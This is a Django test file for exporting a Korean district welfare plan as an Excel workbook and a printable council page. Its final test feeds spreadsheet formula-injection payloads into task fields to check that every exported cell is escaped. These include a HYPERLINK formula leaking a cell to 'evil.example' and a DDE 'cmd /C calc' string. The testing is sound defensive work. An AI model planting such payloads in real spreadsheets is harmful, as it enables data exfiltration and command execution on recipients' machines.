"""The plan as an XLSX workbook and as a printable page for the district council."""

import datetime as dt
from io import BytesIO

import pytest
import time_machine
from django.urls import reverse
from openpyxl import load_workbook

from plans import services
from plans.models import Department
from tests.households.factories_plans import draft_plan, figure
from welfare.models import AccessLog

pytestmark = pytest.mark.django_db

JULY_2 = dt.datetime(2026, 7, 2, 12, 0, tzinfo=dt.timezone(dt.timedelta(hours=9)))


@pytest.fixture
def plan(planner, dong, second_dong):
    plan = draft_plan(district=dong.district, by=planner, dongs=[dong, second_dong], targets={"cases_opened": 100})
    area = plan.areas.get()
    health = Department.objects.create(district=plan.district, name="건강증진과")
    task = services.task_save(area=area, by=planner, data={
        "title": "방문건강관리", "department": health, "budget_krw": 30_000_000, "funding_source": "national",
        "lead": "박간호사", "indicator": "방문 가구", "indicator_unit": "가구", "baseline": 120, "target": 150})
    services.milestones_save(task=task, by=planner, items=[(1, "대상자 선정", "done"), (2, "방문 개시", "planned")])
    figure(dong, dt.date(2026, 3, 1), "cases_opened", 40)   # behind on 2 July (expected 50.1)
    figure(second_dong, dt.date(2026, 3, 1), "cases_opened", 60)  # ahead
    return plan


def workbook(client, plan):
    with time_machine.travel(JULY_2, tick=False):
        response = client.get(reverse("plans:plan_export_xlsx", args=[plan.pk]))
    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response["Content-Disposition"].startswith("attachment; filename*=utf-8''2026_")
    return load_workbook(BytesIO(response.content))


def rows(sheet):
    return [list(r) for r in sheet.iter_rows(values_only=True)]


def test_the_workbook_has_the_expected_sheets_and_values(client_for, planner, plan):
    book = workbook(client_for(planner), plan)

    assert book.sheetnames == ["개요", "추진과제", "부서별 예산", "재원별 예산", "동별 목표"]
    overview = dict(rows(book["개요"])[1:])
    assert (overview["계획명"], overview["연도"], overview["상태"], overview["실적 기준일"]) == (
        "2026 찾동 기본계획", 2026, "작성 중", "2026-07-02")

    tasks = rows(book["추진과제"])
    assert tasks[0][:6] == ["추진 영역", "세부 사업", "담당 부서", "담당자", "예산(원)", "재원"]
    assert tasks[2][:10] == ["위기가구 조기 발굴", "방문건강관리", "건강증진과", "박간호사", 30_000_000, "국비", "방문 가구",
                             "가구", 120, 150]
    assert tasks[2][10:12] == ["대상자 선정 (완료)", "방문 개시 (예정)"]
    assert book["추진과제"]["E3"].number_format == "#,##0"
    assert book["추진과제"].column_dimensions["B"].width == 32

    assert rows(book["부서별 예산"])[1:] == [["건강증진과", 30_000_000], ["복지정책과", 12_000_000], ["합계", 42_000_000]]
    assert rows(book["재원별 예산"])[1:] == [["시비", 12_000_000], ["국비", 30_000_000], ["합계", 42_000_000]]
    assert book["재원별 예산"]["B4"].number_format == "#,##0"

    targets = rows(book["동별 목표"])
    assert targets[0] == ["행정동", "지표", "단위", "작년 실적", "목표", "실적", "기대 실적(진도)", "목표 대비", "진도 판정"]
    assert targets[1:] == [
        ["마장동", "통합사례관리 접수", "건", 99, 100, 60, 50.1, 0.6, "초과"],
        ["왕십리도선동", "통합사례관리 접수", "건", 99, 100, 40, 50.1, 0.4, "미달"],
    ]


def test_the_export_is_logged(client_for, planner, plan):
    workbook(client_for(planner), plan)

    entry = AccessLog.objects.get(verb="plans.plan.exported")
    assert (entry.user, entry.object_id, entry.action) == (planner, str(plan.pk), "export")


def test_an_officials_workbook_holds_only_their_dongs_targets(client_for, official, plan):
    book = workbook(client_for(official), plan)

    assert [r[0] for r in rows(book["동별 목표"])[1:]] == ["왕십리도선동"]


def test_the_printable_page_has_what_the_council_reads(client_for, planner, plan):
    response = client_for(planner).get(reverse("plans:plan_print", args=[plan.pk]))

    body = response.content.decode()
    assert response.status_code == 200
    for text in ("2026 찾동 기본계획", "모두가 행복한 복지도시", "1. 위기가구 조기 발굴", "방문건강관리", "건강증진과",
                 "30,000,000", "42,000,000", "국비", "동별 목표", "마장동", "99 → <strong>100</strong>"):
        assert text in body, text
    assert 'href="/static/css/print.css" media="print"' in body
    assert 'href="/static/css/plans.css"' in body


def test_the_print_stylesheet_has_plan_rules_under_media_print():
    from pathlib import Path

    from django.contrib.staticfiles import finders

    css = Path(finders.find("css/plans.css")).read_text(encoding="utf-8")

    assert "@media print" in css and ".plan-print" in css.split("@media print", 1)[1]


def test_no_cell_of_the_workbook_is_a_formula(client_for, planner, plan):
    # given text that a spreadsheet would run: a task title, a lead, an indicator and a milestone
    area = plan.areas.get()
    task = services.task_save(area=area, by=planner, data={
        "title": '=HYPERLINK("http://evil.example/?"&A1,"클릭")', "lead": "@SUM(1+1)", "indicator": "+cmd|' /C calc'!A0",
        "indicator_unit": "-2+3", "budget_krw": 1_000_000, "funding_source": "city", "baseline": 1, "target": 2,
        "department": Department.objects.create(district=plan.district, name="=cmd()")})
    services.milestones_save(task=task, by=planner, items=[(1, "=1+1", "planned")])

    book = workbook(client_for(planner), plan)

    formulas = [(sheet.title, cell.coordinate, cell.value) for sheet in book.worksheets
                for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    assert formulas == []
    titles = [row[1] for row in rows(book["추진과제"])]
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"클릭")' in titles
    assert any(row[3] == "'@SUM(1+1)" for row in rows(book["추진과제"]))
